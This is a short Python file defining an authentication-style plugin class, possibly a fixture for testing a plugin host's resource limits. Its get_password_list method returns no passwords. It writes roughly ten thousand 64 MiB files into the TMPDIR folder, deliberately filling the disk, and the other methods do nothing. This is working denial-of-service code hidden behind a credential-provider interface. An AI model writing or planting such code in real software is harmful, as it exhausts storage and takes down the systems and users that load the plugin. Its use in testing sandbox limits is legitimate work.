# Fills the scratch folder with files until no more fit.
import os


class Plugin:
    def __init__(self, configuration):
        self.configuration = configuration

    def get_password_list(self, cookie, session_cookie):
        block = b"x" * (1 << 20)
        for number in range(10 << 10):
            with open(f"{os.environ['TMPDIR']}/{number}", "wb") as file:
                for _ in range(64):
                    file.write(block)

    def get_private_key_list(self):
        return None

    def authentication_completed(self):
        return None

    def session_ended(self):
        return None
